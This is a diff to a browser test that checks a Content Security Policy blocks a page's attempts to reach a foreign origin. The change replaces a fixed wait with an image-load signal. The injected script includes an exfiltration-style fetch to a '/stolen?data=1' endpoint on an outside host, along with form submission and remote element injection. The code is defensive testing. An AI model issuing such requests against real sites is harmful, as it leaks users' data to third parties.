@@ -130,11 +130,14 @@ def test_check_12_the_policy_stops_what_would_get_past_everything_else(
               document.body.append(remote);
               document.getElementById('f').submit();
               document.getElementById('j').click();
-              return fetch(`${far}/stolen?data=1`).catch(() => null);
+              const last = new Image();  // its error comes after those of the images before it
+              const failed = new Promise((done) => last.addEventListener('error', done));
+              last.src = `${far}/last.png`;
+              return Promise.all([failed, fetch(`${far}/stolen?data=1`).catch(() => null)])
+                .then(() => null);
             }""",
             FAR,
         )
-        page.page.wait_for_timeout(500)
         assert page.page.evaluate("window.__pwned") is None
     assert traffic.refused == [], "the policy stopped it before a request was made"
     assert sum("Content Security Policy" in error for error in page.errors) >= 6
